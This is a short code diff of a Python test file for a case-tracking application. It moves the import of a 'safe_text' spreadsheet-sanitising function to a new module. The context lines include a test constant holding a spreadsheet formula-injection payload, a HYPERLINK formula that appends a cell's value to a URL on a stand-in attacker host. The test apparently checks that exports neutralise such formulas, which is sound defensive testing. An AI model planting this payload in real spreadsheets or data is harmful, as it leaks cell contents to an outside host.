@@ -16,9 +16,9 @@ import pytest
 from openpyxl import load_workbook
 
 from casetrack.domain.roles import Role
+from casetrack.exports.spreadsheet import safe_text
 from casetrack.extensions import db
 from casetrack.models import AccessLogEntry, utcnow
-from casetrack.reports.spreadsheet import safe_text
 from tests.conftest import csrf_from
 
 FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka här")'
